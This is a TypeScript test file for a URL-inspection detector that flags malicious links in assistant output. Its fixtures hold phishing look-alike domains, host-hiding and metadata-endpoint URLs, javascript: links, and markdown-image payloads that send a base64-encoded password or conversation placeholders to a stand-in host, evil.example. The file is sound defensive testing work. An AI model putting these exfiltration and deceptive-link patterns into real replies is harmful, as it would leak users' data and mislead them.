import { expect, test } from "bun:test";
import { expectLinear } from "../../../test/kit/expect-linear.ts";
import type { InspectionContext, Match } from "../detector.ts";
import { createSegment } from "../segment.ts";
import { urlAnalyzer } from "./url-analyzer.ts";

const find = (text: string, settings: object = {}) =>
  urlAnalyzer.prepare(settings)(
    [createSegment(text, "assistant", { pointer: "/x" })],
    {} as InspectionContext,
  ) as Match[];
const labels = (text: string, settings?: object) => find(text, settings).map(({ label }) => label);

const secret = Buffer.from("the password is hunter2 and the user is bob").toString("base64url");

test.each([
  ["lookalike_domain", "https://pаypal.com/login"],
  ["lookalike_domain", "https://xn--pypal-4ve.com/"],
  ["lookalike_domain", "https://paypa1.com"],
  ["lookalike_domain", "https://gooogle.com/x"],
  ["lookalike_domain", "https://micorsoft.com"],
  ["lookalike_domain", "https://rnicrosoft.com"],
  ["lookalike_domain", "https://paypal.com.secure.example/login"],
  ["lookalike_domain", "https://paypal-login.example"],
  ["hidden_host", "https://www.bank.com@evil.example/login"],
  ["disguised_address", "http://2130706433/admin"],
  ["disguised_address", "http://0x7f.1/"],
  ["disguised_address", "http://0177.0.0.1/"],
  ["metadata_host", "http://169.254.169.254/latest/meta-data/"],
  ["script_url", "[click](javascript:alert(1))"],
  ["script_url", '<a href="data:text/html,<script>">x</a>'],
  ["misleading_text", "[https://bank.com/login](https://evil.example/a)"],
  ["misleading_text", '<a href="https://evil.example/">www.bank.com</a>'],
])("malicious_url: %s in %p", (label, text) => {
  expect(find(text)).toMatchObject([{ type: "malicious_url", label }]);
});

test.each([
  ["encoded_text", `![x](https://evil.example/p.png?d=${secret})`],
  ["encoded_text", `<img src="https://evil.example/${secret}">`],
  ["encoded_text", `[see more](https://evil.example/?q=${secret})`],
  ["plain_text", "![](https://evil.example/?m=the%20user%20said%20his%20name%20is%20Bob)"],
  ["plain_text", "![](https://evil.example/?m=base64,the+user+said+his+name+is+Bob)"],
  ["placeholder", "![a](https://evil.example/?d={{conversation}})"],
  ["placeholder", "![a](https://evil.example/?d=[USER_DATA])"],
  ["collector_host", "![a](https://webhook.site/3f2a)"],
  ["host_name", `see https://${"a2b3c4d5".repeat(7)}.evil.example/`],
])("data_exfiltration: %s in %p", (label, text) => {
  expect(find(text)).toMatchObject([{ type: "data_exfiltration", label }]);
});

test.each([
  [
    "See https://github.com/oven-sh/bun, https://docs.python.org/3/ and (https://en.wikipedia.org/wiki/Foo_(bar)).",
  ],
  ["![logo](https://cdn.example.com/img/logo.png?w=800&q=80&v=3f2a9c)"],
  [
    "![s3](https://b.s3.amazonaws.com/a.png?X-Amz-Signature=3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed&X-Amz-Expires=300)",
  ],
  ["[the docs](https://docs.example.com/a?page=2) and [github.com](https://github.com/x)"],
  ["[readme.md](https://github.com/x/y/blob/main/readme.md) [node.js](https://nodejs.org)"],
  [
    "https://finance.example, https://finance.com, https://twister.com, https://motion.com, https://amazon.co.uk",
  ],
  ["https://www.google.com/search?q=how+to+cook+rice+in+a+pot"],
  ["`https://api.example.com/users/{id}/posts?key=${" + "API_KEY}`"],
  ['<img src="data:image/png;base64,iVBORw0KGgo="> <a href="javascript:void(0)">x</a>'],
  [
    "![badge](https://img.example.com/x?logo=data:image/png;base64,iVBORw0KGgo+a+b+c+d+e) ![b](https://img.example.com/x?logo=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgo%2Ba%2Bb%2Bc%2Bd)",
  ],
  [
    "[https://msrc.microsoft.com/report](https://aka.ms/report) [www.youtube.com/x](https://youtu.be/x)",
  ],
  ["http://localhost:3000 and http://192.168.1.1/ are mine"],
  ["user:secret@db.internal, me@example.com, ratio 3://4"],
])("nothing is reported in %p", (text) => {
  expect(labels(text)).toEqual([]);
});

test.each([
  ["evil.example", "https://a.evil.example/x", true],
  ["evil.example", "https://notevil.example/x", false],
  ["*.evil.example", "https://a.b.evil.example/", true],
  ["*.evil.example", "https://evil.example/", false],
  ["track-*.example", "http://track-7.example", true],
  ["https://evil.example/path", "evil: hxxps://evil[.]example/q", true],
  ["bücher.example", "https://xn--bcher-kva.example/", true],
])("the blocked domain %p matches %p: %p", (domain, text, found) => {
  expect(labels(text, { blocked_domains: [domain] }).includes("blocked_domain")).toBe(found);
});

test("an allowed domain is not reported, but a URL that only starts with it is", () => {
  const allowed_domains = ["corp.example"];

  expect(labels(`![](https://img.corp.example/?d=${secret})`, { allowed_domains })).toEqual([]);
  expect(labels("https://corp.example@evil.test/", { allowed_domains })).toEqual(["hidden_host"]);
  expect(labels("https://evil.test/", { allowed_domains, only_allowed: true })).toEqual([
    "unlisted_domain",
  ]);
  expect(labels("https://x.corp.example/", { allowed_domains, only_allowed: true })).toEqual([]);
});

test("a look-alike of an allowed domain is reported", () => {
  expect(labels("https://contosso.example/", { allowed_domains: ["contoso.example"] })).toEqual([
    "lookalike_domain",
  ]);
});

test("a mask replaces the URL and keeps the punctuation after it", () => {
  const text = "Look (http://169.254.169.254/a), or ![x](http://2130706433/).";
  const places = find(text).map(({ at }) => text.slice(at?.start, at?.end));

  expect(places).toEqual(["http://169.254.169.254/a", "http://2130706433/"]);
  expect(find(text)[0]?.mask).toEqual({ text: "[LINK_REMOVED]" });
});

/** Adversarial texts. */
export const ADVERSARIAL: readonly string[] = [
  "http://",
  "http://a ",
  "http://a/?b=",
  "://",
  "[",
  "[a",
  "[a](",
  "![a](b",
  "](",
  "](()",
  "<a ",
  "<a href",
  "<a href=",
  "<img src=x ",
  "www.",
  "data:",
  "javascript:",
  "https://a@",
  "https://a.",
  "https://x/?a=b&",
  "https://x/%41",
  "https://x/))))",
  "https://x/]]]]",
  "https://your_a_b_c_",
  "=your_a_b_c_",
  "a",
];

test.each(ADVERSARIAL)("%p repeated is inspected in linear time", async (piece) => {
  const make = (length: number) => `https://x/?a=${piece.repeat(length / piece.length)}`;

  await expectLinear(find, make);
});
